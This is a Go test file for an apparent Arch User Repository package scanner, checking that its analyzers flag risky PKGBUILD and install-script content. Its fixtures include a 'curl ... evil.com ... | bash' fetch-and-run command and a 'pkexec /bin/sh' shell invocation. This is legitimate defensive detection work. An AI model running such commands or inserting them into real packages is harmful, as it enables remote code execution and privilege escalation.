// Copyright 2026 KrakLabs
//
// SPDX-License-Identifier: AGPL-3.0-only

package analyzers

import (
	"testing"

	"github.com/stretchr/testify/assert"

	aurhelp "github.com/kraklabs/traur/internal/testing"
	"github.com/kraklabs/traur/pkg/patterns"
)

func TestPkgbuildPatterns_NoContentNoSignals(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.NewContext(t, "foo")
	assert.Empty(t, PkgbuildPatterns{DB: db}.Analyze(ctx))
}

func TestPkgbuildPatterns_DetectsCurlPipe(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), "curl -s https://evil.com/x | bash\n")
	assert.Contains(t, signalIDs(PkgbuildPatterns{DB: db}.Analyze(ctx)), "P-CURL-PIPE")
}

func TestInstallScriptPatterns_RequiresInstallScript(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.NewContext(t, "foo")
	assert.Empty(t, InstallScriptPatterns{DB: db}.Analyze(ctx))
}

func TestInstallScriptPatterns_Detects(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.WithInstallScript(aurhelp.NewContext(t, "foo"), "curl -s https://evil.com/x | bash\n")
	assert.Contains(t, signalIDs(InstallScriptPatterns{DB: db}.Analyze(ctx)), "IS-CURL-PIPE")
}

func TestSourceURLPatterns_IPLiteral(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		`source=("pkg.tar.gz::http://203.0.113.7/pkg.tar.gz")`)
	assert.Contains(t, signalIDs(SourceURLPatterns{DB: db}.Analyze(ctx)), "SU-IP-LITERAL")
}

func TestSourceURLPatterns_NonHTTPS(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		`source=("pkg.tar.gz::http://example.com/pkg.tar.gz")`)
	assert.Contains(t, signalIDs(SourceURLPatterns{DB: db}.Analyze(ctx)), "SU-NON-HTTPS")
}

func TestSourceURLPatterns_IgnoresCommentLines(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		"# mirror once lived at http://203.0.113.7/pkg.tar.gz\n"+
			`source=("pkg.tar.gz::https://github.com/example/foo/archive/v1.tar.gz")`+"\n")
	assert.NotContains(t, signalIDs(SourceURLPatterns{DB: db}.Analyze(ctx)), "SU-IP-LITERAL")
}

func TestGtfobinsPatterns_Detects(t *testing.T) {
	db := patterns.New(nil)
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), "pkexec /bin/sh\n")
	assert.Contains(t, signalIDs(GtfobinsPatterns{DB: db}.Analyze(ctx)), "G-PKEXEC")
}
